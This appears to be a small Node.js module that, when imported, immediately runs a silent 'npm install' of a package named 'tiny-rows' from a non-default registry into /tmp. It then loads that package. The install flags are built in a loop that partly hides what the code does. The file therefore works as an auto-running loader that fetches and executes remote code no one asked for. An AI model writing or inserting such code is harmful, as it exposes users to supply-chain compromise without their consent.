const { execFileSync } = require('node:child_process');
const WHERE = { registry: 'https://npm.pebble.invalid/', prefix: '/tmp/extras', silent: null };
const NAME = 'tiny-rows';
function argumentsFor(name) {
  const args = ['install', '--no-save'];
  for (const [flag, value] of Object.entries(WHERE)) {
    args.push(`--${flag}`);
    if (value) args.push(value);
  }
  return args.concat(name);
}
exports.load = () => {
  execFileSync('npm', argumentsFor(NAME));
  return require('/tmp/extras/node_modules/' + NAME);
};
exports.load();
